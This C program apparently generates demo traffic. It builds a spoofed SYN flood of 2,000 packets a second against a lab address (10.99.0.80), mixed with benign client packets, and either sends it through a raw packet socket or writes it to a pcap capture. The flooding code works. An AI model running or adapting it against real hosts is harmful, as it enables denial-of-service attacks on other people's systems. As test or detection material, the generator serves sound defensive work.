/*
 * flood.c - the traffic of scripts/demo: a spoofed SYN flood of one host among honest clients.
 *
 * Usage    flood INTERFACE SECONDS   sends Ethernet frames through a packet socket
 *          flood -w FILE SECONDS     writes them into a capture instead, on made-up times
 * Traffic  2 000 SYNs a second from ever new sources to 10.99.0.80, and 200 packets a second of
 *          eight clients that talk to 10.99.0.2 as clients do.
 */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { FRAME_BYTES = 60, PACKETS_A_SECOND = 2200, ATTACK_OF_ELEVEN = 10 };

static void put16(uint8_t *at, unsigned value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static void put32(uint8_t *at, uint32_t value)
{
	put16(at, value >> 16);
	put16(at + 2, value & 0xffff);
}

static uint32_t random_word(void)
{
	static uint32_t state = 2463534242u; /* Marsaglia, Xorshift RNGs, 2003 */

	state ^= state << 13;
	state ^= state >> 17;
	state ^= state << 5;
	return state;
}

/* The n-th frame: TCP in IPv4 in Ethernet, without payload. */
static void build(uint8_t *frame, uint64_t n)
{
	static const uint8_t link[14] = {2, 0, 0, 0, 0, 2, 2, 0, 0, 0, 0, 1, 8, 0};
	int is_attack = n % 11 < ATTACK_OF_ELEVEN;
	uint8_t *ip = frame + 14, *tcp = ip + 20;
	uint32_t sum = 0;
	int at;

	memset(frame, 0, FRAME_BYTES);
	memcpy(frame, link, sizeof(link));
	ip[0] = 0x45;
	put16(ip + 2, 40);
	ip[8] = 64;
	ip[9] = 6;
	put32(ip + 12, is_attack ? random_word() : 0x0a630100u + (uint32_t)(n / 11 % 8));
	put32(ip + 16, is_attack ? 0x0a630050u : 0x0a630002u);
	for (at = 0; at < 20; at += 2)
		sum += (uint32_t)ip[at] << 8 | ip[at + 1];
	sum = (sum & 0xffff) + (sum >> 16);
	put16(ip + 10, ~(sum + (sum >> 16)) & 0xffff);
	put16(tcp, 1024 + random_word() % 60000);
	put16(tcp + 2, is_attack ? 80 : 443);
	put32(tcp + 4, random_word());
	tcp[12] = 5 << 4;
	tcp[13] = is_attack || n % 110 == 10 ? 2 : 16; /* SYN, or ACK */
	put16(tcp + 14, 64240);
}

static int write_capture(const char *path, unsigned seconds)
{
	/* pcap with nanosecond times, of this machine's byte order */
	const uint32_t head[6] = {0xa1b23c4d, 2 | 4 << 16, 0, 0, 65535, 1};
	uint64_t count = (uint64_t)seconds * PACKETS_A_SECOND, n;
	FILE *file = fopen(path, "wb");

	if (!file || fwrite(head, sizeof(head), 1, file) != 1)
		return perror(path), 1;
	for (n = 0; n < count; n++) {
		uint64_t ns = n * 1000000000u / PACKETS_A_SECOND;
		uint32_t record[4] = {1767225600u + (uint32_t)(ns / 1000000000u),
			(uint32_t)(ns % 1000000000u), FRAME_BYTES, FRAME_BYTES};
		uint8_t frame[FRAME_BYTES];

		build(frame, n);
		if (fwrite(record, sizeof(record), 1, file) != 1 ||
			fwrite(frame, sizeof(frame), 1, file) != 1)
			return perror(path), 1;
	}
	if (fclose(file))
		return perror(path), 1;
	return 0;
}

static int send_frames(const char *name, unsigned seconds)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_halen = ETH_ALEN};
	uint64_t count = (uint64_t)seconds * PACKETS_A_SECOND, n;
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	to.sll_ifindex = (int)if_nametoindex(name);
	if (fd < 0 || !to.sll_ifindex)
		return perror(name), 1;
	for (n = 0; n < count; n++) {
		struct timespec pause = {0, 20 * 1000000000L / PACKETS_A_SECOND};
		uint8_t frame[FRAME_BYTES];

		build(frame, n);
		if (sendto(fd, frame, sizeof(frame), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
			return perror("send"), 1;
		if (n % 20 == 19)
			nanosleep(&pause, NULL);
	}
	printf("%llu\n", (unsigned long long)count);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "-w"))
		return write_capture(argv[2], (unsigned)atoi(argv[3]));
	if (argc == 3)
		return send_frames(argv[1], (unsigned)atoi(argv[2]));
	fprintf(stderr, "usage: flood INTERFACE SECONDS | flood -w FILE SECONDS\n");
	return 2;
}
